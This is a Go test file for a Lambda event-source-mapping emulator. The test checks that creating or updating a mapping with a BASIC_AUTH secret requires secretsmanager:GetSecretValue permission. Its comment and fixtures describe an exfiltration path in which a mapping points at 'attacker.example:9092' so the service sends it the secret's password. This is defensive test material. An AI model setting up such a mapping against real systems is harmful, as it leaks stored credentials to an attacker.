package api

import (
	"context"
	"errors"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/lambda/types"
	"github.com/aws/smithy-go"

	"github.com/kafkaesm/kafkaesm/internal/iam"
	"github.com/kafkaesm/kafkaesm/internal/mapping"
)

// TestMappingSecretNeedsGetSecretValue: a mapping's SASL/TLS secret is sent by kafkaesm to
// the brokers the mapping names, which its creator chooses. So a principal that may manage
// mappings but may not read a secret must not name that secret in a mapping: pointed at a
// broker of its own, BASIC_AUTH would hand it the password. (In AWS the mapping's execution
// role must be allowed secretsmanager:GetSecretValue, and the caller must be allowed to pass
// that role; kafkaesm has no roles, so the caller itself must be allowed.) Create and Update
// are both checked; an Update that keeps the secrets already there is not.
func TestMappingSecretNeedsGetSecretValue(t *testing.T) {
	const secretPrefix = "arn:aws:secretsmanager:us-east-1:000000000000:secret:"
	principals := []*iam.Principal{
		{Name: "admin", AccessKeyID: "AKIAADMIN", SecretAccessKey: "admin-secret"},
		{Name: "mapper", AccessKeyID: "AKIAMAPPER", SecretAccessKey: "mapper-secret",
			Policy: policy(allow([]string{"lambda:*EventSourceMapping*"}, "*"))},
		{Name: "kafkauser", AccessKeyID: "AKIAKAFKAUSER", SecretAccessKey: "kafkauser-secret",
			Policy: policy(allow([]string{"lambda:*EventSourceMapping*"}, "*"),
				allow([]string{"secretsmanager:GetSecretValue"}, secretPrefix+"kafka-*"))},
	}
	a, st := newTestAPI(t)
	a.cfg.SecretARN = func(_ context.Context, id string) (string, bool) {
		switch id {
		case "kafka-prod", secretPrefix + "kafka-prod":
			return secretPrefix + "kafka-prod-AbCdEf", true
		case "payroll", secretPrefix + "payroll":
			return secretPrefix + "payroll-XyZ123", true
		}
		return "", false
	}
	srv := httptest.NewServer(protected(t, a, principals...))
	defer srv.Close()
	lam := func(p *iam.Principal) *lambda.Client { return lambda.NewFromConfig(configAs(srv.URL, p)) }
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	create := func(p *iam.Principal, topic string, secret string) (*lambda.CreateEventSourceMappingOutput, error) {
		in := &lambda.CreateEventSourceMappingInput{FunctionName: aws.String("fn"), Topics: []string{topic},
			SelfManagedEventSource: &types.SelfManagedEventSource{Endpoints: map[string][]string{"KAFKA_BOOTSTRAP_SERVERS": {"attacker.example:9092"}}},
			StartingPosition:       types.EventSourcePositionLatest}
		if secret != "" {
			in.SourceAccessConfigurations = []types.SourceAccessConfiguration{{Type: types.SourceAccessTypeBasicAuth, URI: aws.String(secret)}}
		}
		return lam(p).CreateEventSourceMapping(ctx, in)
	}
	denied := func(t *testing.T, err error, who, resource string) {
		t.Helper()
		var ae smithy.APIError
		want := "User: arn:aws:iam::000000000000:user/" + who + " is not authorized to perform: secretsmanager:GetSecretValue on resource: " + resource
		if !errors.As(err, &ae) || ae.ErrorCode() != "AccessDeniedException" || !strings.HasPrefix(ae.ErrorMessage(), want) {
			t.Fatalf("got %v, want AccessDeniedException %q", err, want)
		}
	}

	_, err := create(principals[1], "t1", "payroll")
	denied(t, err, "mapper", secretPrefix+"payroll-XyZ123")
	_, err = create(principals[1], "t2", secretPrefix+"kafka-prod")
	denied(t, err, "mapper", secretPrefix+"kafka-prod-AbCdEf")
	_, err = create(principals[2], "t3", "payroll")
	denied(t, err, "kafkauser", secretPrefix+"payroll-XyZ123")
	_, err = create(principals[2], "t4", "unknown-secret") // judged as named when it does not exist
	denied(t, err, "kafkauser", secretPrefix+"unknown-secret")

	mine, err := create(principals[2], "t5", "kafka-prod")
	if err != nil {
		t.Fatalf("kafkauser with its own secret: %v", err)
	}
	plain, err := create(principals[1], "t6", "")
	if err != nil {
		t.Fatalf("mapper without a secret: %v", err)
	}
	for _, id := range []*string{mine.UUID, plain.UUID} { // no pollers here: as they would leave them
		if _, err := st.UpdateMapping(ctx, *id, func(m *mapping.EventSourceMapping) error { m.State = mapping.StateEnabled; return nil }); err != nil {
			t.Fatal(err)
		}
	}
	// Update: adding a secret is judged as on Create; keeping the one there is not.
	_, err = lam(principals[1]).UpdateEventSourceMapping(ctx, &lambda.UpdateEventSourceMappingInput{UUID: plain.UUID,
		SourceAccessConfigurations: []types.SourceAccessConfiguration{{Type: types.SourceAccessTypeBasicAuth, URI: aws.String("payroll")}}})
	denied(t, err, "mapper", secretPrefix+"payroll-XyZ123")
	if _, err := lam(principals[1]).UpdateEventSourceMapping(ctx, &lambda.UpdateEventSourceMappingInput{UUID: mine.UUID,
		BatchSize: aws.Int32(10), SourceAccessConfigurations: mine.SourceAccessConfigurations}); err != nil {
		t.Fatalf("mapper updating a mapping that keeps its secret: %v", err)
	}
	if _, err := create(principals[0], "t7", "payroll"); err != nil {
		t.Fatalf("admin (no policy): %v", err)
	}
}
